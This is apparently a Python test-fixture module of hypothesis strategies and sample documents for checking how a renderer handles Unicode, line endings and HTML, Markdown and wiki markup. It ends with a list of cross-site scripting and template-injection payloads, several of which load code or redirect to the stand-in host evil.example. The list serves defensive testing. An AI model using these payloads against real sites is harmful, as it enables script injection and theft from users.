"""Texts that are easily changed on their way to a page: a folder of them, any number of them, and what must not run."""

from hypothesis import strategies as st

_SIGNS = (
    *("# ", "## ", "= ", " =", "==", "---", "===", "- ", "1. ", "> ", "*", "**", "***", "_", "__", "''", "'''", "`"),
    *("```", "[", "]", "](", "](#)", "[[", "]]", "|", "<", ">", "<b>", "</b>", "<ref>", "</ref>", "<!--", "-->"),
    *("{{", "}}", "https://e.org", "Infobox", "July 29, 2024", "&amp;", "&#13;", "\n", "\n\n", "\r\n", "\r", "\t"),
    *(" ", "a", "B.", "é", "e\u0301", "😀", "👩\u200d👩\u200d👧", "שלום", "\u202e", "\u2028", "\u0085", "\ufeff"),
)
MARKUP = st.lists(st.sampled_from(_SIGNS) | st.text(st.characters(codec="utf-8", exclude_characters="\0"))).map("".join)

DOCUMENTS = {
    "emoji.txt": (
        "Emoji of the delegations\n\n"
        "The family 👩\u200d👩\u200d👧\u200d👦 waved 🏳\ufe0f\u200d🌈 beside 🇷🇺🇻🇪 in 1945. "
        "The 👨🏽\u200d🚀 and the 🧑🏿\u200d🤝\u200d🧑🏻 "
        "gave 1\ufe0f\u20e3 ❤\ufe0f\u200d🔥 🏴\U000e0067\U000e0062\U000e007f to 𝕮𝖍á𝖛𝖊𝖟 and 𠮷野家.\n"
    ),
    "right-to-left.txt": (
        "יחסים בין רוסיה לוונצואלה\n\n"
        "ברית המועצות כוננה יחסים ב־3 במרץ 1945 (March 3, 1945) עם קראקס. أقيمت العلاقات في ٣ مارس ١٩٤٥ بين البلدين، "
        "ثم قُطِعت. An \u202eoverride\u202c, an \u2067isolate\u2069 and a mark\u200f stand here.\n"
    ),
    "combining.txt": (
        "Hugo Cha\u0301vez und Ange\u0301lica\n\n"
        "Cha\u0301vez met A\u030angstro\u0308m and Z\u0351\u0343\u0312a\u0321\u0334l\u0327\u0358g\u0489 in 1999. "
        "संबंध १९४५ में स्थापित हुए। ความสัมพันธ์เริ่มต้นขึ้น "
        "ㅎㅏㄴ\u1100\u1161\u11a8 ﬁnally ｆｕｌｌ İıſß.\n"
    ),
    "line-ends.txt": (
        "\ufeffLine ends\r\n\r\n"
        "The treaty was\r\nsigned on\rJune 13, 1952,\r\n\tit\tsays,"
        "\u00a0and\u2028restored\u2029on\u0085April 16,\x0b1970.\x0c "
        "A \ufeffmark and  two   spaces \x01\x08\x1f\x7f\x80\x9f\ufffd\ufffe\uffff\U0010ffff stay here.\r\n\r\n"
        "The end is\r"
    ),
    "html.md": (
        "# 5 < 6 &amp; 7 > 6\n\n"
        "The <b>bold</b> &lt;tag&gt; &amp;amp; </p></article></mark> <!-- of --> 1945 <![CDATA[was]]> <br/> here. "
        "&nbsp;</textarea></title><plaintext> &copy &notit; &#x41; \"quoted\" 'single' `back` {{ 7*7 }} {% raw %}.\n"
    ),
    "script.md": (
        "# The script\n\n"
        "On <script>ran()</script> of 1945 they <img src=x onerror=ran()> met </script><svg onload=ran()> again. "
        'Then "><a href="javascript:ran()">it</a> ended <style>*{display:none}</style> in <iframe srcdoc=\'x\'> 1952.\n'
    ),
    "markdown.md": (
        "---\ntitle: Ties of *two* states\nlang: en\n---\n\n# Ties *of* `two` states #\n\n"
        "The [Soviet **Union**](https://e.org/a_(b)) made `ties` with __Caracas__ on ***March* 3**, _1945_.\n\n"
        "## The **rest**\n\n- One *item* is [here](#).\n1. Another is ~~there~~ \\*so\\*.\n\n> It _is_ quoted.\n"
    ),
    "wiki.txt": (
        "= Ties =\n\nInfobox\n- Mission: [[Embassy of Russia|Embassy]]\n\n"
        "The '''Soviet Union''' made ''ties''<ref name=\"a\">Smith</ref> with [[Caracas]] {{on|date=1945}} on "
        "[https://e.org March 3], 1945<!-- or so -->.\n\n==Past==\nIt was <sub>very</sub> cold.\n"
    ),
}
LARGE = "= Large =\n\n" + "".join(
    f"== Part {number} ==\n\nThe *{number}*th `delegation` 😀 of [[Caracas]] **came** <b>too</b>.\r\n\r\n"
    for number in range(6_500)
)

PAYLOADS = (
    "<script>ran()</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>ran()</script>",
    "</title><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "<!--<script>-->ran()<!--</script>-->",
    "<img src=x onerror=ran()>",
    '"><img src=//evil.example/x.png onerror=ran()>',
    "' autofocus onfocus=ran() x='",
    '" onmouseover="ran()" x="',
    "<svg/onload=ran()>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<iframe src=javascript:parent.ran()></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<details open ontoggle=ran()>",
    "<input autofocus onfocus=ran()>",
    "<body onload=ran()>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button autofocus>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=ran()>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "[x](javascript:ran())",
    "![x](//evil.example/x.png)",
    "javascript:ran()",
    "data:text/html,<script>ran()</script>",
    "{{constructor.constructor('ran()')()}}",
    "${ran()}",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "\u202e>tpircs/<)(nar>tpircs<",
)
